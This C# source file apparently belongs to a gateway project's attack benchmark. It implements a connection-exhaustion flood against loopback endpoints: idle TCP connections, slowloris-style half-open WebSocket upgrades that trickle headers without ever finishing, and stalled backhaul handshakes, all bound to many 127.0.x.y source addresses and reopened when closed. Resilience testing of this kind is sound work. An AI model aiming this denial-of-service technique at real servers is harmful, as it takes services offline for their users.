using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;

namespace Relay.AttackBench;

/// <summary>The attacker (run as its own process, <c>flood</c> verb, so its sockets count against its own open-file
/// limit): idle TCP connections and half-open upgrades to the gateway's HTTP port, and backhaul connections that
/// never finish the handshake, each bound to one of many 127.0.x.y source addresses and reopened when closed.</summary>
internal sealed class Flood(FloodOptions options)
{
    private static readonly byte[] s_requestHead = Encoding.ASCII.GetBytes(
        "GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n");

    private static readonly byte[] s_padding = Encoding.ASCII.GetBytes("X-Slow: 1\r\n");

    // Received bytes are discarded; every read may share one buffer.
    private static readonly byte[] s_discard = new byte[4096];

    private readonly FloodOptions _options = options;
    private readonly FloodStats _idle = new() { Kind = "gateway idle" };
    private readonly FloodStats _halfOpen = new() { Kind = "gateway half-open upgrade" };
    private readonly FloodStats _backhaul = new() { Kind = "backhaul handshake" };

    public IReadOnlyList<FloodStats> Stats => [_idle, _halfOpen, _backhaul];

    /// <summary>Runs for <see cref="FloodOptions.Seconds"/>, then closes everything and writes the stats as JSON.</summary>
    public async Task RunAsync(CancellationToken cancellationToken)
    {
        _options.Validate();
        using var cts = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        cts.CancelAfter(TimeSpan.FromSeconds(_options.Seconds));
        var ct = cts.Token;
        using var gate = new SemaphoreSlim(_options.ConnectConcurrency);
        var slots = new List<Task>(_options.Total);
        // The kinds interleaved, so all three ramp up together.
        int slot = 0;
        for (int i = 0; i < Math.Max(_options.IdleConnections, Math.Max(_options.HalfOpenConnections, _options.BackhaulConnections)); i++)
        {
            if (i < _options.IdleConnections)
            {
                slots.Add(SlotAsync(_idle, _options.Gateway, slot++, trickle: false, gate, ct));
            }

            if (i < _options.HalfOpenConnections)
            {
                slots.Add(SlotAsync(_halfOpen, _options.Gateway, slot++, trickle: true, gate, ct));
            }

            if (i < _options.BackhaulConnections)
            {
                slots.Add(SlotAsync(_backhaul, _options.Backhaul, slot++, trickle: false, gate, ct));
            }
        }

        var progress = ProgressAsync(ct);
        await Task.WhenAll(slots);
        await progress;
        await File.WriteAllTextAsync(_options.ResultPath, JsonSerializer.Serialize(Stats), CancellationToken.None);
    }

    private async Task ProgressAsync(CancellationToken ct)
    {
        var clock = Stopwatch.StartNew();
        using var timer = new PeriodicTimer(TimeSpan.FromSeconds(1));
        try
        {
            while (await timer.WaitForNextTickAsync(ct))
            {
                Console.WriteLine($"flood {clock.Elapsed.TotalSeconds:F0} s: " + string.Join("; ", Stats.Select(s =>
                    $"{s.Kind} open {s.Open} (opened {s.Opened}, refused {s.Refused}, timeouts {s.Timeouts}, errors {s.Errors}, closed by server {s.ClosedByPeer})")));
            }
        }
        catch (OperationCanceledException)
        {
        }
    }

    /// <summary>One connection, reopened when it closes, until the flood's time is up (at most MaxAttemptsPerSlot connects).</summary>
    private async Task SlotAsync(FloodStats stats, IPEndPoint target, int slot, bool trickle, SemaphoreSlim gate, CancellationToken ct)
    {
        await Task.Yield();
        var source = new IPEndPoint(FloodOptions.Source(_options.FirstSource + (slot % _options.Sources)), 0);
        for (int attempt = 0; attempt < _options.MaxAttemptsPerSlot && !ct.IsCancellationRequested; attempt++)
        {
            using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            bool connected = false;
            try
            {
                await gate.WaitAsync(ct);
                try
                {
                    socket.Bind(source);
                    using var connectTimeout = CancellationTokenSource.CreateLinkedTokenSource(ct);
                    connectTimeout.CancelAfter(TimeSpan.FromSeconds(5));
                    await socket.ConnectAsync(target, connectTimeout.Token);
                    connected = true;
                }
                finally
                {
                    gate.Release();
                }
            }
            catch (OperationCanceledException) when (ct.IsCancellationRequested)
            {
                return;
            }
            catch (OperationCanceledException)
            {
                stats.TimedOut();
            }
            catch (SocketException e) when (e.SocketErrorCode is SocketError.ConnectionRefused or SocketError.ConnectionReset)
            {
                stats.RefusedOne();
            }
            catch (SocketException)
            {
                stats.Failed();
            }

            if (connected)
            {
                stats.Connected();
                bool byPeer = await HoldAsync(socket, trickle, ct);
                stats.Closed(byPeer);
            }

            try
            {
                await Task.Delay(_options.ReopenDelay, ct);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }

    /// <summary>Holds the connection (sending a request head line by line when <paramref name="trickle"/>) until the
    /// server closes it (true) or the flood ends (false). Waits with zero-byte reads: no buffer per connection.</summary>
    private async Task<bool> HoldAsync(Socket socket, bool trickle, CancellationToken ct)
    {
        using var hold = CancellationTokenSource.CreateLinkedTokenSource(ct);
        var sending = trickle ? TrickleAsync(socket, hold.Token) : Task.CompletedTask;
        bool byPeer = false;
        try
        {
            while (true)
            {
                await socket.ReceiveAsync(Memory<byte>.Empty, SocketFlags.None, ct);
                if (await socket.ReceiveAsync(s_discard, SocketFlags.None, ct) == 0)
                {
                    byPeer = true;
                    break;
                }
            }
        }
        catch (OperationCanceledException)
        {
        }
        catch (SocketException)
        {
            byPeer = !ct.IsCancellationRequested;
        }

        await hold.CancelAsync();
        await sending;
        return byPeer;
    }

    private async Task TrickleAsync(Socket socket, CancellationToken ct)
    {
        try
        {
            // The request line and the upgrade headers one line at a time, then padding lines; never the blank line.
            int start = 0;
            while (true)
            {
                int end = start < s_requestHead.Length ? Array.IndexOf(s_requestHead, (byte)'\n', start) + 1 : 0;
                var line = start < s_requestHead.Length ? s_requestHead.AsMemory(start, end - start) : s_padding;
                start = end > 0 ? end : start;
                await socket.SendAsync(line, SocketFlags.None, ct);
                await Task.Delay(_options.TrickleInterval, ct);
            }
        }
        catch (OperationCanceledException)
        {
        }
        catch (SocketException)
        {
        }
    }
}
